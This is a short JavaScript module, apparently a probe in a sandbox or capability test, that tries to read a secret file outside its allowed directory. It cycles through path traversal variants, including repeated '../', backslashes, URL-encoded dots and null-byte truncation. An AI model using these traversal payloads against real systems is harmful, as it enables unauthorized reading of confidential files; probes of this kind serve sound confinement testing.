// proof: secret
// Climbs out of the directory that it was given.
import { first } from './routes.mjs';

export default (input, caps) => {
  const up = '../'.repeat(16) + input.secretFile.slice(1);
  const ways = [up, './' + up, 'x/../' + up, up.replaceAll('../', '..\\'), up.replaceAll('..', '%2e%2e'), 'public.txt\0' + up, up + '\0', '././../outside/secret.txt'];
  return first(...ways.map((path) => () => caps.files.readText(path)));
};
